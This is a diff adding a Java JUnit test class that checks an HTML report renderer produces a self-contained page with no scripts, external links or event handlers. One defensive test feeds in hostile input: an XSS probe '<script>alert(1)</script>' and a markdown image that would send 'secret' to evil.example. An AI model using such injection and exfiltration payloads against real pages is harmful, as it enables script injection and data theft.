@@ -1,0 +1,78 @@
+package dev.architect.deliverables.html;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.architect.deliverables.Deliverable;
+import dev.architect.deliverables.PlantUmlDiagram;
+import dev.architect.deliverables.testing.HostileDossier;
+import dev.architect.deliverables.testing.Rendered;
+import dev.architect.dossier.Consultation;
+import dev.architect.testing.SampleDossiers;
+import java.util.List;
+import java.util.stream.Stream;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Document;
+import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class HtmlRendererTest {
+
+    static Stream<Arguments> pages() {
+        return Stream.of(Arguments.of("sample", SampleDossiers.shopFastMigration(), Rendered.sample()),
+                Arguments.of("hostile", HostileDossier.create(), Rendered.hostile()));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("pages")
+    void pageIsSelfContainedAndReferencesNoExternalUrl(String name, Consultation c, List<Deliverable> files) {
+        Document page = Jsoup.parse(Rendered.file(files, "index.html").content());
+        assertThat(page.select("script, link, iframe, object, embed, base, form")).isEmpty();
+        for (Element e : page.getAllElements()) {
+            e.attributes().forEach(a -> {
+                assertThat(a.getKey()).as(e.tagName()).doesNotStartWith("on");
+                if (a.getKey().endsWith("href") || a.getKey().equals("src")) {
+                    assertThat(a.getValue()).as(e.tagName() + " " + a.getKey()).matches("#.*|data:image/.*");
+                }
+            });
+        }
+        assertThat(page.select("style").html()).doesNotContain("url(", "@import");
+        assertThat(page.select("meta[http-equiv=Content-Security-Policy]").attr("content")).startsWith("default-src 'none'");
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("pages")
+    void pageHoldsOverviewEveryAdrEveryDiagramTheHeatMapAndApiOperations(String name, Consultation c, List<Deliverable> files) {
+        Document page = Jsoup.parse(Rendered.file(files, "index.html").content());
+        assertThat(page.select("main > section").eachAttr("id")).containsExactly("overview", "decisions", "diagrams", "risks", "api");
+        assertThat(page.select("#decisions article")).hasSize(c.decisions().size());
+        assertThat(page.select("#diagrams figure > svg")).hasSize(Rendered.ofType(files, PlantUmlDiagram.class).size());
+        assertThat(page.select("table.heat tr")).hasSize(6);
+        assertThat(page.select("table.heat td").stream().mapToInt(td -> td.text().isEmpty() ? 0 : Integer.parseInt(td.text())).sum())
+                .isEqualTo(c.risks().size());
+        assertThat(page.select("#api tr")).hasSize(1 + (int) c.apis().stream().mapToLong(a -> a.operations().size()).sum());
+        assertThat(page.select("[id]").eachAttr("id")).doesNotHaveDuplicates();
+        for (String target : page.select("nav a").eachAttr("href")) {
+            assertThat(page.getElementById(target.substring(1))).as(target).isNotNull();
+        }
+    }
+
+    @Test
+    void hostileTextIsShownAsTextNotMarkup() {
+        Document page = Jsoup.parse(Rendered.file(Rendered.hostile(), "index.html").content());
+        assertThat(page.select("b")).isEmpty();
+        assertThat(page.select("#overview h1").text()).contains("<script>alert(1)</script>", "![x](https://evil.example/?q=secret)");
+        assertThat(page.select("img")).isEmpty();
+    }
+
+    @Test
+    void withoutSvgTheDiagramsAppearAsPlantUmlSource() {
+        Consultation c = SampleDossiers.shopFast();
+        List<PlantUmlDiagram> diagrams = List.of(new PlantUmlDiagram("diagrams/context.puml", "Context", "@startuml\nA -> B\n@enduml\n"));
+        Document page = Jsoup.parse(new HtmlRenderer().render(c, diagrams, List.of()).content());
+        assertThat(page.select("#diagram-1 pre").first().wholeText()).isEqualTo("@startuml\nA -> B\n@enduml\n");
+        assertThat(page.select("svg")).isEmpty();
+    }
+}
